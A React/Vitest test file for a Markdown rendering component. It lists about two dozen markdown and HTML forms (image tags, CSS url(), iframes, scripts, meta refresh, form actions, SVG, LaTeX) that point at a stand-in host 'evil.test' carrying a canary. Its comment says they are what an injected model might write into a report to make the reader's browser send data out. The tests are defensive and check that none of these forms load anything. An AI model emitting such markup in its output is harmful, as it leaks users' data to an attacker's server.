import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

afterEach(cleanup);

const OUT = "https://evil.test/x?d=CANARY";

/** What an obedient model may write into a report to have the reader's browser call out. */
const FORMS: Record<string, string> = {
  image: `![pixel](${OUT})`,
  "image with a title": `![pixel](${OUT} "CANARY")`,
  "reference image": `![pixel][r]\n\n[r]: ${OUT}`,
  "image in a link": `[![pixel](${OUT})](${OUT})`,
  "image in a table": `| a | b |\n|---|---|\n| ![p](${OUT}) | ${OUT} |`,
  "image in a list": `- [ ] ![p](${OUT})`,
  "image in a heading": `# ![p](${OUT})`,
  "html image": `<img src="${OUT}">`,
  "html set of images": `<picture><source srcset="${OUT}"><img srcset="${OUT} 2x"></picture>`,
  style: `<style>body { background: url(${OUT}) }</style>`,
  "style attribute": `<p style="background:url(${OUT})">x</p>`,
  "style sheet": `<link rel="stylesheet" href="${OUT}">`,
  "link ahead of time": `<link rel="prefetch" href="${OUT}"><link rel="dns-prefetch" href="//evil.test">`,
  frame: `<iframe src="${OUT}"></iframe><embed src="${OUT}"><object data="${OUT}"></object>`,
  media: `<video src="${OUT}" poster="${OUT}" autoplay></video><audio src="${OUT}"></audio>`,
  script: `<script src="${OUT}"></script>`,
  redirect: `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  base: `<base href="${OUT}">`,
  form: `<form action="${OUT}"><input type="image" src="${OUT}"></form>`,
  drawing: `<svg><image href="${OUT}"/><use href="${OUT}#a"/></svg>`,
  formula: `$\\includegraphics{${OUT}}$ $\\href{${OUT}}{x}$`,
  "code with markup": `\`\`\`html\n<img src="${OUT}">\n\`\`\``,
  autolink: `<${OUT}>`,
  "bare address": OUT,
};

describe("a report that wants to call out", () => {
  it.each(Object.entries(FORMS))("loads nothing: %s", (_, text) => {
    const { container } = render(<Markdown text={text} />);
    const loads = container.querySelectorAll(
      "img, picture, source, link, iframe, embed, object, video, audio, script, meta, base, form, image, use, style",
    );
    expect(loads).toHaveLength(0);
    for (const element of container.querySelectorAll("*")) {
      expect(element.getAttribute("style") ?? "").not.toContain("url(");
      for (const name of ["src", "srcset", "poster", "ping", "background", "action", "data"]) {
        expect(element.hasAttribute(name)).toBe(false);
      }
    }
  });

  it.each(["image", "autolink", "bare address"])("says where a link would lead: %s", (form) => {
    const { container } = render(<Markdown text={FORMS[form] ?? ""} />);
    const link = container.querySelector("a");
    expect(link?.getAttribute("rel")).toContain("noreferrer");
    expect(container.textContent).toContain("evil.test");
  });
});
